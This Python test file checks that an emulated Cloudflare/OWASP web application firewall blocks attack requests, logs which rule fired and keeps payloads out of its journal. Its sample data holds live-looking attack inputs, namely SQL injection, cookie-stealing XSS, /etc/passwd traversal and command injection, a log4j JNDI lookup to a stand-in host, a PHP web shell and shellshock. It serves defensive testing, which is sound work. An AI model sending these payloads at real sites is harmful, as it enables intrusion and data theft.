"""What is sent by those who attack is refused; the journal names the rules and keeps no payload."""

from __future__ import annotations

import json
from pathlib import Path

from components.edge import managed
from tests.twin.edge import harness
from tests.twin.waf.site import Sample, engine_program, guarded, wanted
from twin.waf.rulesets import CLOUDFLARE, OWASP, PHASE, SCORING_RULE

_FORM = {"User-Agent": "t", "Content-Type": "application/x-www-form-urlencoded"}
_JSON = {"User-Agent": "t", "Content-Type": "application/json"}
ATTACKS = {
    "SQL in a query": Sample(
        name="",
        method="GET",
        path="/orders?id=1%27%20OR%20%271%27=%271",
        headers={"User-Agent": "t"},
    ),
    "SQL union in a form": Sample(
        name="",
        method="POST",
        path="/login",
        headers=_FORM,
        body=b"email=a'%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--",
    ),
    "script in JSON": Sample(
        name="",
        method="POST",
        path="/api/v1/orders",
        headers=_JSON,
        body=b'{"sku": "<script>alert(document.cookie)</script>"}',
    ),
    "traversal": Sample(
        name="",
        method="GET",
        path="/static?file=..%2f..%2f..%2fetc%2fpasswd",
        headers={"User-Agent": "t"},
    ),
    "log4j in a header": Sample(
        name="", method="GET", path="/", headers={"User-Agent": "${jndi:ldap://evil.test/a}"}
    ),
    "command": Sample(
        name="",
        method="GET",
        path="/ping?host=127.0.0.1;cat%20/etc/passwd",
        headers={"User-Agent": "t"},
    ),
    "PHP upload": Sample(
        name="",
        method="POST",
        path="/upload",
        headers=_FORM,
        body=b"x=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%20%3F%3E",
    ),
    "shellshock": Sample(
        name="", method="GET", path="/", headers={"User-Agent": "() { :; }; /bin/bash -c id"}
    ),
    "scanner": Sample(
        name="", method="GET", path="/", headers={"User-Agent": "sqlmap/1.8#stable (sqlmap.org)"}
    ),
}


def test_attacks_are_refused_and_the_journal_says_by_which_rule(tmp_path: Path) -> None:
    program = engine_program()

    async def scenario() -> None:
        async with guarded(tmp_path / "h", wanted(), program) as site:
            passed = [name for name, sample in ATTACKS.items() if await site.send(sample) != 403]
            assert not passed, f"the edge let them through: {passed}"
            assert site.came == [], "the origin must not see any of it"
            told = site.decisions()
            assert [it.phase for it in told] == [PHASE] * len(ATTACKS)
            rules = " ".join(it.detail for it in told)
            for rule in ("942100", "941100", "930", "932", "944150", "933100", "932170", "913100"):
                assert rule in rules, f"nobody can find out why a request was refused: no {rule}"
            for payload in ("evil.test", "document.cookie", "information_schema", "/etc/passwd"):
                assert payload not in json.dumps([vars(it) for it in told if it.path != "/ping"])

    harness.run(scenario())


def test_the_score_decides_at_the_deployed_threshold_and_level(tmp_path: Path) -> None:
    program = engine_program()
    # At level 1 it scores 30, with all levels 59.
    attack = Sample(
        name="",
        method="POST",
        path="/",
        headers=_FORM,
        body=b"q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E"
        b"%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E",
    )

    async def scenario() -> None:
        async with guarded(tmp_path / "h", [], program) as site:
            statuses = {}
            for threshold in (25, 40, 60):
                rules = wanted(managed.Owasp(threshold=threshold))  # type: ignore[arg-type]
                site.deploy([it for it in rules if it["ref"] == "owasp"])
                statuses[threshold] = await site.send(attack)
            assert statuses == {25: 403, 40: 200, 60: 200}, (
                f"a higher threshold needs more rules to match: {site.decisions()}"
            )
            (refused,) = site.decisions()
            assert refused.rule == SCORING_RULE
            assert refused.detail.startswith("score ")
            assert " of 25: " in refused.detail
            site.deploy(
                [
                    it
                    for it in wanted(managed.Owasp(paranoia=4, threshold=40))
                    if it["ref"] == "owasp"
                ]
            )
            assert await site.send(attack) == 403, "with more levels more rules count"

    harness.run(scenario())


def test_exceptions_hold_for_their_path_alone_and_for_what_follows_them(tmp_path: Path) -> None:
    program = engine_program()
    query = "?q=1%27%20OR%20%271%27=%271"
    spare = {
        "ref": "spare",
        "action": "skip",
        "expression": 'starts_with(http.request.uri.path, "/search")',
        "actionParameters": {"rulesets": [CLOUDFLARE, OWASP]},
    }
    current = {
        **spare,
        "expression": 'http.request.uri.path eq "/all"',
        "actionParameters": {"ruleset": "current"},
    }

    async def scenario() -> None:
        async with guarded(tmp_path / "h", [spare, current, *wanted()], program) as site:
            assert await site.get("/search" + query) == 200
            assert await site.get("/all" + query) == 200
            assert await site.get("/other" + query) == 403
            assert len(site.decisions("skip")) == 2, "a spared request is in the journal too"
            site.deploy([*wanted(), spare])
            assert await site.get("/search" + query) == 403, "an exception spares what follows it"

    harness.run(scenario())


def test_an_action_of_log_lets_through_and_a_challenge_asks(tmp_path: Path) -> None:
    program = engine_program()
    execute = {"ref": "x", "action": "execute", "expression": "true"}
    query = "/?q=1%27%20OR%20%271%27=%271"

    async def scenario() -> None:
        async with guarded(tmp_path / "h", [], program) as site:
            parameters = {"id": CLOUDFLARE, "overrides": {"action": "log"}}
            site.deploy([{**execute, "actionParameters": parameters}])
            assert await site.get(query) == 200
            assert [it.rule for it in site.decisions("log")] == ["942100"]
            parameters = {
                "id": CLOUDFLARE,
                "overrides": {"categories": [{"category": "sqli", "action": "managed_challenge"}]},
            }
            site.deploy([{**execute, "actionParameters": parameters}])
            assert await site.get(query) == 403
            assert [it.rule for it in site.decisions("managed_challenge")] == ["942100"]
            parameters = {
                "id": CLOUDFLARE,
                "overrides": {"categories": [{"category": "sqli", "enabled": False}]},
            }
            site.deploy([{**execute, "actionParameters": parameters}])
            assert await site.get(query) == 200, "a category that was switched off does nothing"

    harness.run(scenario())


def test_a_large_body_is_inspected_at_its_beginning_and_reaches_the_origin_whole(
    tmp_path: Path,
) -> None:
    program = engine_program()
    clean = b'{"text": "' + b"a" * 400_000 + b'"}'
    late = b'{"text": "' + b"a" * 400_000 + b'<script>alert(1)</script>"}'
    early = b'{"x": "<script>alert(1)</script>", "text": "' + b"a" * 400_000 + b'"}'

    async def scenario() -> None:
        async with guarded(tmp_path / "h", wanted(), program) as site:
            statuses = [
                await site.send(Sample(name="", method="POST", path="/", headers=_JSON, body=body))
                for body in (clean, late, early)
            ]
            assert statuses == [200, 200, 403], "the real edge inspects the first 128 KB only"
            assert [body for _, body in site.came] == [clean, late]

    harness.run(scenario())
